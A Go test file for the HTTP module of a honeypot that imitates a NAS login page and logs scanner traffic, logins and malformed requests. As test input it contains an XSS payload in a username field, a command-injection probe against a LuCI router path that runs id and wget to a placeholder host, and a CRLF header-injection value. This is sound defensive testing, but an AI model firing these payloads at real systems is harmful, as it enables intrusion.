package http

import (
	"bufio"
	"io"
	"net"
	nethttp "net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"honeysens/app/honeypot"
	"honeysens/app/honeypot/hptest"
	"honeysens/app/model"
)

func TestMain(m *testing.M) {
	readHeaderTimeout = 2 * time.Second
	keepAliveIdle = 2 * time.Second
	os.Exit(m.Run())
}

// eventWait is how long a test waits for an event.
const eventWait = 10 * time.Second

func testLimits() honeypot.Limits {
	lim := honeypot.DefaultLimits
	lim.IdleTimeout = 5 * time.Second
	lim.TotalTimeout = 20 * time.Second
	return lim
}

// fast reports sessions soon and often, so the tests need not wait long.
var fast = honeypot.SessionTiming{First: 100 * time.Millisecond, Every: 200 * time.Millisecond, Slow: 500 * time.Millisecond,
	SlowAfter: 100, Keepalive: time.Second}

// testIdle is the idle window of the tests: a session ends this long after its last request.
const testIdle = 300 * time.Millisecond

func start(t *testing.T, cfg Config) (*Service, *hptest.Recorder) {
	t.Helper()
	cfg.Listen = "127.0.0.1:0"
	if err := cfg.Validate(); err != nil {
		t.Fatal(err)
	}
	svc := New(cfg, testLimits(), nil)
	svc.Timing, svc.table.idle = fast, testIdle
	rec := hptest.NewRecorder()
	if err := svc.Start(rec); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(svc.Stop)
	return svc, rec
}

// oneConn is a client that keeps everything on one keep-alive connection.
func oneConn() (*nethttp.Client, *nethttp.Transport) {
	tr := &nethttp.Transport{MaxConnsPerHost: 1, MaxIdleConnsPerHost: 1}
	return &nethttp.Client{Transport: tr, Timeout: 10 * time.Second,
		CheckRedirect: func(*nethttp.Request, []*nethttp.Request) error { return nethttp.ErrUseLastResponse }}, tr
}

// answer is what a test looks at of a response whose body get has read and closed.
type answer struct {
	StatusCode int
	Header     nethttp.Header
}

func get(t *testing.T, c *nethttp.Client, req *nethttp.Request) (answer, string) {
	t.Helper()
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	return answer{resp.StatusCode, resp.Header}, string(b)
}

func req(t *testing.T, method, u string, body string) *nethttp.Request {
	t.Helper()
	var rd io.Reader
	if body != "" {
		rd = strings.NewReader(body)
	}
	r, err := nethttp.NewRequest(method, u, rd)
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("User-Agent", "Mozilla/5.0 (test)")
	if body != "" {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	return r
}

func TestLoginForm(t *testing.T) {
	svc, rec := start(t, DefaultConfig())
	base := "http://" + svc.Addr().String()
	c, tr := oneConn()
	resp, body := get(t, c, req(t, "GET", base+"/", ""))
	if resp.StatusCode != 200 || resp.Header.Get("Server") != "lighttpd/1.4.69" || !strings.Contains(body, `<form method="post" action="/"`) ||
		!strings.Contains(body, "NAS Manager") {
		t.Fatalf("GET /: %d %v\n%s", resp.StatusCode, resp.Header, body)
	}
	form := url.Values{"username": {`admin"><script>alert(1)</script>`}, "password": {"s3cret pw"}}.Encode()
	// The form posts back to the page, which answers as a static page does: the same page.
	page := body
	resp, body = get(t, c, req(t, "POST", base+"/", form))
	if resp.StatusCode != 200 || body != page {
		t.Fatalf("POST /: %d\n%s", resp.StatusCode, body)
	}
	tr.CloseIdleConnections()
	e := rec.Wait(t, 1, eventWait)
	if want := `HTTP: 2 requests, first GET /, 1 login admin"><script>alert(1)</script>/s3cret pw`; e.Summary != want {
		t.Errorf("summary %q\nwant    %q", e.Summary, want)
	}
	d := hptest.TypedDetails(e)
	for _, want := range []string{"1 GET / HTTP/1.1 → 200 | Host: 127.0.0.1:", "User-Agent: Mozilla/5.0 (test)",
		`1 POST / HTTP/1.1 → 200 | login admin"><script>alert(1)</script> / s3cret pw (form): rejected | `, "| body (",
		"0 requests: 2, login attempts: 1, malformed: 0, connections: 1 (0 without a request)", "0 The session ended: no request for 300ms."} {
		if !strings.Contains(d, want) {
			t.Errorf("details lack %q:\n%s", want, d)
		}
	}
	if e.Classification != model.ClassHoneypot || e.Service != "http" || e.Source.String() != "127.0.0.1" {
		t.Errorf("event %+v", e)
	}
	if want := []model.Login{{User: `admin"><script>alert(1)</script>`, Password: "s3cret pw"}}; !slices.Equal(e.Logins, want) ||
		!slices.Equal(e.Paths, []string{"/", "/"}) {
		t.Errorf("logins %+v, paths %q", e.Logins, e.Paths)
	}
}

func TestBasicAuth(t *testing.T) {
	svc, rec := start(t, Config{BasicAuth: []string{"/admin", "/manager/html"}, Realm: "Router"})
	base := "http://" + svc.Addr().String()
	c, tr := oneConn()
	r := req(t, "GET", base+"/admin/config.php", "")
	r.SetBasicAuth("root", "hunter2:x")
	resp, body := get(t, c, r)
	if resp.StatusCode != 401 || resp.Header.Get("WWW-Authenticate") != `Basic realm="Router", charset="UTF-8"` || !strings.Contains(body, "<title>401 Unauthorized</title>") {
		t.Fatalf("%d %v\n%s", resp.StatusCode, resp.Header, body)
	}
	tr.CloseIdleConnections()
	e := rec.Wait(t, 1, eventWait)
	if e.Summary != "HTTP: GET /admin/config.php with credentials root/hunter2:x" {
		t.Errorf("summary %q", e.Summary)
	}
	if !strings.Contains(hptest.Details(e), "GET /admin/config.php HTTP/1.1 → 401 | login root / hunter2:x (basic auth): rejected") {
		t.Errorf("details\n%s", hptest.Details(e))
	}
	resp, _ = get(t, c, req(t, "GET", base+"/manager/html", ""))
	if resp.StatusCode != 401 {
		t.Errorf("/manager/html: %d", resp.StatusCode)
	}
	resp, _ = get(t, c, req(t, "GET", base+"/administrator", ""))
	if resp.StatusCode != 404 {
		t.Errorf("/administrator: %d", resp.StatusCode)
	}
}

func TestScannerPaths(t *testing.T) {
	svc, rec := start(t, DefaultConfig())
	base := "http://" + svc.Addr().String()
	c, tr := oneConn()
	for _, tc := range []struct {
		method, path string
		code         int
	}{
		{"GET", "/.env", 404}, {"GET", "/wp-login.php", 404}, {"GET", "/phpmyadmin/", 404},
		{"GET", "/cgi-bin/", 403}, {"GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id>`wget%20http://x/y`)", 404},
		{"GET", "/robots.txt", 200}, {"PUT", "/x", 404}, {"DELETE", "/", 501}, {"OPTIONS", "/", 200}, {"HEAD", "/", 200},
		{"GET", "/admin", 401}, {"GET", "/index.html?user=a&pass=b", 200},
	} {
		resp, body := get(t, c, req(t, tc.method, base+tc.path, ""))
		if resp.StatusCode != tc.code || resp.Header.Get("Server") != "lighttpd/1.4.69" {
			t.Errorf("%s %s: %d %v", tc.method, tc.path, resp.StatusCode, resp.Header)
		}
		if tc.code == 404 && !strings.Contains(body, "<h1>404 Not Found</h1>") {
			t.Errorf("404 page %q", body)
		}
	}
	tr.CloseIdleConnections()
	e := rec.Wait(t, 1, eventWait)
	if e.Summary != "HTTP: 12 requests, first GET /.env" {
		t.Errorf("summary %q", e.Summary)
	}
	d := hptest.Details(e)
	for _, want := range []string{"GET /.env HTTP/1.1 → 404", "PUT /x HTTP/1.1 → 404", "DELETE / HTTP/1.1 → 501", "wget%20http://x/y`) HTTP/1.1 → 404", "GET /index.html?user=a&pass=b HTTP/1.1 → 200"} {
		if !strings.Contains(d, want) {
			t.Errorf("details lack %q:\n%s", want, d)
		}
	}
}

// raw sends bytes on a fresh connection and returns everything the server answers until it
// closes the connection (or the deadline passes).
func raw(t *testing.T, svc *Service, in string) string {
	t.Helper()
	c, err := net.Dial("tcp", svc.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.SetDeadline(time.Now().Add(8 * time.Second))
	go c.Write([]byte(in))
	out, _ := io.ReadAll(c)
	return string(out)
}

func TestMalformed(t *testing.T) {
	svc, rec := start(t, DefaultConfig())
	for i, tc := range []struct{ in, want string }{
		// A TLS ClientHello has no line end: the server waits for one until the header timeout.
		{"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + strings.Repeat("\x00", 40), ""},
		{"GARBAGE\r\n\r\n", "HTTP/1.0 400 Bad Request"},
		{"GET / HTTP/1.1\r\nHost: x\r\nX: " + strings.Repeat("a", 20000) + "\r\n\r\n", "HTTP/1.0 431 Request Header Fields Too Large"},
		{"GET / HTTP/1.1\r\n\r\n", "HTTP/1.1 400 Bad Request"}, // no Host
		{"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n", "HTTP/1.1 400 Bad Request"},
		{"GET /\x00 HTTP/1.1\r\nHost: x\r\n\r\n", "HTTP/1.1 400 Bad Request"},
	} {
		out := raw(t, svc, tc.in)
		if !strings.HasPrefix(out, tc.want) && out != "" {
			t.Errorf("%d: got %.80q", i, out)
		}
		e := rec.Wait(t, i+1, eventWait)
		want := "HTTP: malformed request"
		if tc.want == "" {
			want = "HTTP: incomplete request (timeout)"
		}
		if e.Summary != want || !strings.Contains(hptest.Details(e), "unanswered input (") || len(e.Packets) != 1 {
			t.Errorf("%d: summary %q\n%s", i, e.Summary, hptest.Details(e))
		}
	}
}

func TestSlowHeaders(t *testing.T) {
	svc, rec := start(t, DefaultConfig())
	begin := time.Now()
	raw(t, svc, "GET / HTTP/1.1\r\nHost: x\r\n") // never ends the header
	if d := time.Since(begin); d > 6*time.Second {
		t.Errorf("slow header held %s", d)
	}
	if e := rec.Wait(t, 1, eventWait); e.Summary != "HTTP: incomplete request (timeout)" {
		t.Errorf("summary %q\n%s", e.Summary, hptest.Details(e))
	}
}

func TestRequestLimitAndBody(t *testing.T) {
	svc, rec := start(t, Config{MaxRequests: 3, MaxBody: 100})
	var in strings.Builder
	for range 5 {
		in.WriteString("GET /x HTTP/1.1\r\nHost: h\r\n\r\n")
	}
	out := raw(t, svc, in.String())
	if n := strings.Count(out, "HTTP/1.1 404"); n != 3 || !strings.Contains(out, "Connection: close") {
		t.Errorf("%d responses:\n%s", n, out)
	}
	e := rec.Wait(t, 1, eventWait)
	if e.Summary != "HTTP: 3 requests, first GET /x" {
		t.Errorf("summary %q\n%s", e.Summary, hptest.Details(e))
	}

	out = raw(t, svc, "POST / HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n"+strings.Repeat("u", 1000))
	if !strings.HasPrefix(out, "HTTP/1.1 200") || !strings.Contains(out, "Connection: close") {
		t.Errorf("big body: %.80q", out)
	}
	if d := hptest.Details(rec.Wait(t, 2, eventWait)); !strings.Contains(d, "body (100 bytes, cut): uuu") {
		t.Errorf("details\n%s", d)
	}
}

func TestStopReportsOpenConnections(t *testing.T) {
	svc, rec := start(t, DefaultConfig())
	c, err := net.Dial("tcp", svc.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	c.Write([]byte("GET /.git/config HTTP/1.1\r\nHost: h\r\n\r\n"))
	c.SetDeadline(time.Now().Add(5 * time.Second))
	res, err := nethttp.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	svc.Stop()
	e := rec.Wait(t, 1, eventWait)
	if e.Summary != "HTTP: GET /.git/config" || !strings.Contains(hptest.Details(e), "The session ended: service stopped.") {
		t.Errorf("summary %q\n%s", e.Summary, hptest.Details(e))
	}
}

func TestBareConnect(t *testing.T) {
	svc, rec := start(t, DefaultConfig())
	c, _ := net.Dial("tcp", svc.Addr().String())
	c.Close()
	if e := rec.Wait(t, 1, eventWait); e.Summary != "HTTP: connection without request" || e.Classification != model.ClassConnAttempt {
		t.Errorf("%q %v", e.Summary, e.Classification)
	}
}

func TestGuardLimit(t *testing.T) {
	lim := testLimits()
	lim.MaxPerSource = 2
	svc := New(Config{Listen: "127.0.0.1:0"}, lim, nil)
	rec := hptest.NewRecorder()
	if err := svc.Start(rec); err != nil {
		t.Fatal(err)
	}
	defer svc.Stop()
	for range 2 {
		c, err := net.Dial("tcp", svc.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
	}
	time.Sleep(100 * time.Millisecond)
	out := raw(t, svc, "GET / HTTP/1.0\r\n\r\n")
	if out != "" {
		t.Errorf("third connection served: %.80q", out)
	}
}

func TestValidate(t *testing.T) {
	good := DefaultConfig()
	if err := good.Validate(); err != nil {
		t.Fatal(err)
	}
	bad := Config{Listen: ":x", Server: "lighttpd\r\nSet-Cookie: a=b", Realm: `a"b`, BasicAuth: []string{"admin"}, MaxBody: -1}
	me, ok := bad.Validate().(*model.Error)
	if !ok {
		t.Fatal("no error")
	}
	for _, f := range []string{"listen", "server", "realm", "basic_auth", "max_body"} {
		if me.Fields[f] == "" {
			t.Errorf("no message for %s: %v", f, me.Fields)
		}
	}
}

func TestHelpers(t *testing.T) {
	for h, want := range map[string]string{
		"Basic YWRtaW46YWRtaW4=": "admin/admin", "basic YWRtaW46YWRtaW4": "admin/admin", "Basic Og==": "/",
		"Bearer x": "", "Basic !!!": "", "Basic YWRtaW4=": "", "": "",
	} {
		u, p, ok := basicAuth(h)
		got := ""
		if ok {
			got = u + "/" + p
		}
		if got != want {
			t.Errorf("basicAuth(%q) = %q, want %q", h, got, want)
		}
	}
	if u, p, ok := formCredentials("", []byte("USER=a&Pwd=b&x=%zz")); !ok || u != "a" || p != "b" {
		t.Errorf("form: %q %q %v", u, p, ok)
	}
	if _, _, ok := formCredentials("application/json", []byte(`{"username":"a"}`)); ok {
		t.Error("json taken as form")
	}
}
